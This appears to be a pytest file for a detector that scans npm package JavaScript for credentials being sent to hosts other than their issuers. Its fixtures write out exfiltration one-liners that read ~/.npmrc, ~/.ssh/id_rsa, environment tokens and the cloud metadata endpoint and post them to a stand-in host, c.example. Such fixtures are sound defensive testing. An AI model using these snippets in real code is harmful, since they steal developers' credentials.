import pytest

from picketline.packages import inspect, registry

_BEGIN = (
    'const fs = require("fs"), os = require("os"), path = require("path"); '
    'const https = require("https"); '
    'const rc = () => fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); '
)
_SENT = {"sends-secret", "sends-token", "presents-secret"}


def _sent(script: str) -> set[str]:
    marks = inspect.deeper((_BEGIN + script).encode(), "a.js")
    return {mark.name for mark in marks if mark.name in _SENT}


@pytest.mark.parametrize(
    "script",
    [
        'fetch("https://api.github.com/x?t=" + process.env.GITHUB_TOKEN);',
        "const api = 'https://api.acme.com'; fetch(`${api}/x`, { body: process.env.ACME_TOKEN });",
        'const r = https.request({ host: "slack.com" }); r.end("t=" + process.env.SLACK_TOKEN);',
        "fetch(`https://sts.${a}.amazonaws.com/`, { body: process.env.AWS_SECRET_ACCESS_KEY });",
        'fetch("http://169.254.169.254/latest/meta-data/");',
        'https.request({ host: "localhost", port: 1 }).end(rc());',
        'fetch("http://127.0.0.1:1/", { body: rc() });',
        'const IP = "169.254.170.2"; https.get({ host: IP, auth: process.env.AWS_TOKEN });',
        f'fetch("https://{registry.HOST}/x", {{ headers: {{ authorization: rc() }} }});',
    ],
)
def test_what_goes_to_its_issuer_is_not_sent_away(script: str) -> None:
    """By the hosts that a call, and what it is made of, names."""
    assert not _sent(script)


@pytest.mark.parametrize(
    ("script", "marks"),
    [
        ('fetch("https://c.example/?t=" + process.env.GITHUB_TOKEN);', {"sends-token"}),
        (
            'fetch("https://c.example/?x=https://api.github.com/" + process.env.GITHUB_TOKEN);',
            {"sends-token"},
        ),
        (
            'fetch("https://c.example/", { body: process.env.NPM_TOKEN + process.env.GH_TOKEN });',
            {"sends-secret", "sends-token"},
        ),
        ('fetch("https://c.example/", { headers: { authorization: rc() } });', {"sends-secret"}),
        ("fetch(u, { headers: { authorization: rc() } });", {"presents-secret"}),
        ("fetch(u, { headers: { authorization: 1 }, body: rc() });", {"sends-secret"}),
        ('fetch(u + "?x=" + rc(), { headers: {} });', {"sends-secret"}),
        ("fetch(atob(u), { headers: { authorization: rc() } });", {"sends-secret"}),
        ("const o = { headers: { authorization: rc() } }; fetch(u, o);", {"presents-secret"}),
        (
            'fetch(u, { headers: { a: fs.readFileSync(os.homedir() + "/.ssh/id_rsa") } });',
            {"sends-secret"},
        ),
        ("https.request(u).end(rc());", {"sends-secret"}),
        ("fetch(`http://${h}/`, { body: rc() });", {"sends-secret"}),
        ('fetch("http://localhost.c.example/", { body: rc() });', {"sends-secret"}),
        (
            'const c = fetch("http://169.254.169.254/latest/meta-data/"); fetch(u, { body: c });',
            {"sends-secret"},
        ),
    ],
)
def test_what_goes_elsewhere(script: str, marks: set[str]) -> None:
    """A secret is sent, or only shown at the door of a host that is not named."""
    assert _sent(script) == marks


def test_an_environment_that_is_taken_apart() -> None:
    """Only the secrets among the names are taken, unless the rest is, too."""
    named = "const { PORT, NPM_TOKEN } = process.env; "
    assert _sent(f'{named}fetch("https://c.example/", {{ body: NPM_TOKEN }});') == {"sends-token"}
    assert not _sent('const { PORT } = process.env; fetch("https://c.example/", { body: PORT });')
    rest = "const { PORT, ...all } = process.env; "
    assert _sent(f'{rest}fetch("https://c.example/", {{ body: all }});') == {"sends-secret"}
